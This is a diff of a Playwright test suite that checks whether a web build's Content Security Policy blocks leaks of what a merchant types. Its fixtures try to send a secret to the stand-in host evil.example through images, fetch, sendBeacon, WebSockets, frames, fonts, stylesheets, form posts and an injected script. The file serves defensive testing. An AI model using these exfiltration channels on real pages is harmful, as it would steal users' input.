@@ -146,52 +146,29 @@ const narrowTest = base.extend<object, { readonly narrowBuild: string }>({
   },
 });
 
-/** Ways to load a script of another host, or to send what a merchant types to it, each with what blocks it. */
-const attacks: readonly (readonly [directive: RegExp, run: () => unknown])[] = [
+/** Adds an element to the page. */
+const add = ({ tag = '', ...attributes }: Readonly<Record<string, string>>) => {
+  document.body.append(Object.assign(document.createElement(tag), attributes));
+};
+const evil = 'https://evil.example/?secret';
+
+/** Ways to send what a merchant types to another host, each with the directive that blocks it. */
+const leaks: readonly (readonly [directive: string, run: (page: Page) => Promise<unknown>])[] = [
+  ['img-src', (page) => page.evaluate(add, { tag: 'img', src: evil })],
+  ['img-src', (page) => page.evaluate(add, { tag: 'p', style: `background: url(${evil})` })],
+  ['connect-src', (page) => page.evaluate((url) => fetch(url), evil)],
+  ['connect-src', (page) => page.evaluate((url) => navigator.sendBeacon(url), evil)],
+  ['connect-src', (page) => page.evaluate((url) => new WebSocket(url.replace('https', 'wss')).url, evil)],
+  ['connect-src', (page) => page.evaluate((url) => new EventSource(url).url, evil)],
+  ['frame-src', (page) => page.evaluate(add, { tag: 'iframe', src: evil })],
+  ['media-src', (page) => page.evaluate(add, { tag: 'video', src: evil })],
+  ['font-src', (page) => page.evaluate((url) => new FontFace('x', `url(${url})`).load(), evil)],
+  ['style-src-elem', (page) => page.evaluate(add, { tag: 'link', rel: 'stylesheet', href: evil })],
   [
-    /^require-trusted-types-for|default$/,
-    () => {
-      document.body.append(
-        Object.assign(document.createElement('script'), { src: 'https://evil.example/a' }),
-      );
-    },
-  ],
-  [/^img-src$/, () => Object.assign(new Image(), { src: 'https://evil.example/?secret' })],
-  [
-    /^img-src$/,
-    () => {
-      document.body.style.backgroundImage = 'url(https://evil.example/?secret)';
-    },
-  ],
-  [/^connect-src$/, () => fetch('https://evil.example/?secret')],
-  [/^connect-src$/, () => navigator.sendBeacon('https://evil.example/', 'secret')],
-  [/^connect-src$/, () => new WebSocket('wss://evil.example/?secret')],
-  [/^connect-src$/, () => new EventSource('https://evil.example/?secret')],
-  [
-    /^frame-src$/,
-    () => {
-      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
-    },
-  ],
-  [
-    /^media-src$/,
-    () => {
-      document.body.append(Object.assign(document.createElement('video'), { src: 'https://evil.example/' }));
-    },
-  ],
-  [/^font-src$/, () => new FontFace('x', 'url(https://evil.example/?secret)').load()],
-  [
-    /^style-src-elem$/,
-    () => {
-      const link = { rel: 'stylesheet', href: 'https://evil.example/?secret' };
-      document.head.append(Object.assign(document.createElement('link'), link));
-    },
-  ],
-  [
-    /^form-action$/,
-    () => {
-      const form = { action: 'https://evil.example/', method: 'post' };
-      document.body.appendChild(Object.assign(document.createElement('form'), form)).submit();
+    'form-action',
+    async (page) => {
+      await page.evaluate(add, { tag: 'form', id: 'leak', action: evil, method: 'post' });
+      await page.evaluate(() => (document.getElementById('leak') as HTMLFormElement).submit());
     },
   ],
 ];
@@ -221,12 +198,14 @@ narrowTest.describe('a build that names its hosts', () => {
         page.evaluate(() => (window as unknown as { violations: string[] }).violations);
       await page.goto('/');
       await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-      for (const [directive, run] of attacks) {
+      for (const [directive, run] of leaks) {
         const before = (await violations()).length;
-        const error = await page.evaluate(run).then(() => '', String);
-        if (directive.source.includes('default') && error !== '') continue;
-        await expect.poll(async () => (await violations()).slice(before).join()).toMatch(directive);
+        await run(page).catch(() => undefined);
+        await expect.poll(async () => (await violations()).slice(before)).toContain(directive);
       }
+      await expect(page.evaluate(add, { tag: 'script', src: evil })).rejects.toThrow(
+        /TrustedScriptURL|must begin/,
+      );
       expect(requested).toEqual([]);
       expect(page.url()).toBe(`${server.url}/`);
     });
